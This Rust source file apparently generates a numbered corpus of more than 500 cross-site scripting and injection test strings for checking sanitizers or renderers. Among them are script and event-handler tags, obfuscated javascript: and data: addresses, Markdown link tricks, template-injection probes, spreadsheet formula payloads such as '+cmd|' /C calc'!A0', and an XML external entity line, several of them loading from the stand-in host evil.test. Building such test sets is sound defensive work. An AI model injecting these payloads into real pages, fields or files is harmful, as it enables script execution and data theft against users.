//! Texts that want to be more than text in a browser: the families that are known, each in the
//! places and the spellings in which it has worked somewhere. One that runs calls `xss(NUMBER)`, or
//! opens a dialog; one that loads something asks `evil.test` for it.

/// What runs or loads where it is taken for markup.
const MARKUP: [&str; 46] = [
    "<script>xss({n})</script>",
    "<script src=//evil.test/{n}.js></script>",
    "<script type=module>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "<img src=https://evil.test/{n}.png>",
    "<img srcset='https://evil.test/{n}.png 1x' src=''>",
    "<image src=x onerror=xss({n})>",
    "<picture><source srcset=//evil.test/{n}><img></picture>",
    "<svg onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=xss({n}) attributeName=x to=1>",
    "<svg><a xlink:href=javascript:xss({n})><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=xss({n})/>#x'>",
    "<svg><image href=//evil.test/{n}.svg>",
    "<svg><style><img src=x onerror=xss({n})></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<math href=javascript:xss({n})>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=xss({n})>",
    "<body onload=xss({n})>",
    "<body onpageshow=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})>",
    "<details open ontoggle=xss({n})><summary>x</summary></details>",
    "<marquee onstart=xss({n})>x</marquee>",
    "<video src=//evil.test/{n}.mp4 onerror=xss({n})>",
    "<video poster=//evil.test/{n}.png>",
    "<audio src=x onerror=xss({n})>",
    "<iframe srcdoc='<script>top.xss({n})</script>'></iframe>",
    "<iframe src=javascript:xss({n})></iframe>",
    "<iframe src=//evil.test/{n}></iframe>",
    "<object data=javascript:xss({n})></object>",
    "<object data=//evil.test/{n}></object>",
    "<embed src=//evil.test/{n}.swf>",
    "<style>@import '//evil.test/{n}.css';</style>",
    "<style>body{background:url(//evil.test/{n}.png)}</style>",
    "<div style='background:url(//evil.test/{n}.png)'>x</div>",
    "<table background=//evil.test/{n}.png><td>x</table>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<link rel=preload as=image href=//evil.test/{n}.png>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<base href=//evil.test/{n}/>",
    "<form action=//evil.test/{n}><button autofocus>x</button></form>",
    "<template><img src=x onerror=xss({n})></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss({n})>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=xss({n})>\">",
];

/// What may stand before it: the end of what it finds itself in.
const BEFORE: [&str; 10] = [
    "",
    "\">",
    "'>",
    "-->",
    "</title></textarea></style></script>",
    "]]>",
    "</noscript></template></iframe>",
    "<!--><!---!>",
    "</p></td></li></a>",
    "<!doctype x><!-- <",
];

/// What ends an attribute and begins another.
const ATTRIBUTES: [&str; 12] = [
    "\" onmouseover=\"xss({n})",
    "' onmouseover='xss({n})",
    "x onfocus=xss({n}) autofocus x=",
    "\" autofocus onfocus=\"xss({n})\" x=\"",
    "\"onerror=xss({n})//",
    "` onerror=`xss({n})`",
    "\" style=\"background:url(//evil.test/{n})",
    "\" srcset=\"//evil.test/{n} 1x",
    "\"\tonanimationstart\t=\t\"xss({n})\" style=\"animation:x 1s",
    "&quot; onerror=&quot;xss({n})",
    "&#34; onerror=&#34;xss({n})",
    "%22 onerror=%22xss({n})",
];

/// Addresses that run or lead elsewhere.
const ADDRESSES: [&str; 24] = [
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})",
    " javascript:xss({n})",
    "java\tscript:xss({n})",
    "java\nscript:xss({n})",
    "java&Tab;script:xss({n})",
    "java&NewLine;script:xss({n})",
    "javascript&colon;xss({n})",
    "&#106;avascript:xss({n})",
    "&#x6A;avascript:xss({n})",
    "&#0000106avascript:xss({n})",
    "\u{1}javascript:xss({n})",
    "javascript://evil.test/%0axss({n})",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss({n})//'>",
    "data:text/html,<script>top.xss({n})</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss({n})'/>",
    "vbscript:xss({n})",
    "blob:https://evil.test/{n}",
    "//evil.test/{n}",
    "\\\\evil.test\\{n}",
    "https:evil.test/{n}",
    "https://evil.test/{n}\"><img src=x onerror=xss({n})>",
    "https://user@evil.test/{n}?a=1&b=<svg/onload=xss({n})>",
];

/// What Markdown makes of an address.
const MARKDOWN: [&str; 12] = [
    "[x]({a})",
    "[x](<{a}>)",
    "![x]({a})",
    "<{a}>",
    "[x][y]\n\n[y]: {a}",
    "[x]({a} \"a\\\" onmouseover=xss({n})\")",
    "![\" onerror=\"xss({n})]({a})",
    "[![x]({a})]({a})",
    "**<a href=\"{a}\">x</a>**",
    "| a |\n|---|\n| <a href={a}>x</a> |",
    "- <div>\n  [x]({a})",
    "```{a}\" onload=\"xss({n})\nx\n```",
];

/// What is text everywhere, but has been taken for something else.
const OTHER: [&str; 20] = [
    "{{7*7}}${7*7}#{7*7}<%=7*7%>{%7*7%}",
    "{{constructor.constructor('xss({n})')()}}",
    "${xss({n})}",
    "';xss({n});//",
    "\";xss({n});//",
    "</script><script>xss({n})//",
    "+ADw-script+AD4-xss({n})+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}xss({n})\u{ff1c}/script\u{ff1e}",
    "\u{2028}xss({n})\u{2029}",
    "\u{202e}<img src=x onerror=xss({n})>\u{202c}",
    "\u{feff}<svg/onload=xss({n})>",
    "\u{fdd0}\u{fffd}<svg/onload=xss({n})>",
    "=HYPERLINK(\"https://evil.test/{n}\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "-2+3+cmd|x",
    "<![CDATA[<img src=x onerror=xss({n})>]]>",
    "<?xml-stylesheet href='//evil.test/{n}'?>",
    "<!ENTITY x SYSTEM 'https://evil.test/{n}'>",
    "<a id=defaultView name=getElementById><form id=body>",
];

/// One piece of markup, spelled otherwise.
fn spelled(markup: &str) -> [String; 9] {
    let mixed = |(at, letter): (usize, char)| match at % 2 {
        0 => letter.to_ascii_uppercase(),
        _ => letter,
    };
    let name_ends = markup.find([' ', '>']).unwrap_or(markup.len());
    let (start, rest) = markup.split_at(name_ends);
    let tag: String = start.chars().enumerate().map(mixed).collect();
    let escaped = markup.replace('<', "&lt;").replace('>', "&gt;");
    [
        format!("{tag}{rest}"),
        format!("{start}/{}", rest.trim_start()),
        format!("{start}\n{}", rest.trim_start()),
        format!("{start}\u{c}{}", rest.trim_start()),
        markup.trim_end_matches('>').to_owned(),
        format!("<{markup}>"),
        escaped.replace("&lt;", "&amp;lt;"),
        markup.replace('<', "%3C").replace('>', "%3E"),
        escaped,
    ]
}

/// All of them, each with its number.
pub(crate) fn vectors() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    all.extend(MARKUP.map(str::to_owned));
    for before in &BEFORE[1..] {
        // Every third, another one each time; over all places each is there three times.
        let from = all.len() % 3;
        let some = MARKUP.iter().skip(from).step_by(3);
        all.extend(some.map(|markup| format!("{before}{markup}")));
    }
    all.extend(MARKUP.iter().step_by(3).flat_map(|markup| spelled(markup)));
    all.extend(ATTRIBUTES.map(str::to_owned));
    all.extend(ADDRESSES.map(str::to_owned));
    for (n, form) in MARKDOWN.iter().enumerate() {
        let some = ADDRESSES.iter().skip(n % 2).step_by(2);
        all.extend(some.map(|address| form.replace("{a}", address)));
    }
    all.extend(OTHER.map(str::to_owned));
    let numbered = all.iter().enumerate();
    numbered
        .map(|(n, vector)| vector.replace("{n}", &n.to_string()))
        .collect()
}

#[test]
fn there_are_five_hundred_of_them_and_no_two_are_alike() {
    let mut all = vectors();
    let count = all.len();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), count);
    assert!(count >= 500, "{count}");
}
